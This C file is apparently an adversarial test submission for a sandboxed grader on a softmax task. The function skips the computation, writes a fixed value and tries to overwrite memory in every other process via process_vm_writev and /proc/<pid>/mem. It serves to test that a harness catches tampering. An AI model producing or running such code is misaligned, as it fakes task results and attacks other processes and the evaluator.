// Tries: to write into the memory of every other process.
// Task: ch01_activations softmax-rows
// Loses: chapter
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/uio.h>
#include <unistd.h>

void softmax_rows(float *y, const float *x, size_t rows, size_t cols)
{
    (void)x;
    for (size_t i = 0; i < rows * cols; i++)
        y[i] = 2.0f;
    for (pid_t pid = 1; pid < 2000; pid++) {
        char path[32];
        struct iovec here = {y, sizeof *y}, there = {y, sizeof *y};
        if (pid != getpid())
            process_vm_writev(pid, &here, 1, &there, 1, 0);
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int fd = open(path, O_WRONLY);
        if (fd >= 0 && pwrite(fd, y, sizeof *y, (off_t)y) < 0)
            continue;
    }
}
